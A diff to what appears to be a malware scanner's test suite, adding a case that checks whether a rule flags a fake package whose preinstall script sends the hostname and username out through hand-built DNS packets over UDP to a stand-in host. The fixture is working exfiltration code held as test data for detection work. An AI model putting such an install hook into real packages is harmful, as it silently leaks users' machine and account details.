@@ -529,3 +529,29 @@ cp.execFile(path.join(dir, 'tool'), ['--version']);`,
     ).toEqual([]);
   });
 });
+
+describe('host details in hand-built DNS packets sent over UDP', () => {
+  const beacon = (encode: string) =>
+    analyzeSource({
+      'package.json': JSON.stringify({
+        name: '@corp-internal/flags',
+        version: '99.1.0',
+        scripts: { preinstall: 'node scripts/warm.mjs' },
+      }),
+      'scripts/warm.mjs': `import dgram from 'node:dgram';
+import os from 'node:os';
+const hex = Buffer.from([os.hostname(), os.userInfo().username].join('|')).toString('hex');
+${encode}
+const sock = dgram.createSocket('udp4');
+const chunks = hex.match(/.{1,56}/g) || [];
+chunks.forEach((c, i) => setTimeout(() => sock.send(packet(c + '.' + i + '.t.flags-cdn.example'), 53, '198.51.100.53'), i * 40));`,
+    }).evidence.filter((f) => f.rule === 'js.exfil-fingerprint');
+  it('labels split from the name, each length-prefixed with Buffer.concat in a map callback', () => {
+    expect(
+      beacon(`function packet(name) {
+  const labels = name.split('.').map((label) => { const b = Buffer.from(label); return Buffer.concat([Buffer.from([b.length]), b]); });
+  return Buffer.concat([Buffer.alloc(12), ...labels, Buffer.from([0, 0, 16, 0, 1])]);
+}`),
+    ).not.toHaveLength(0);
+  });
+});
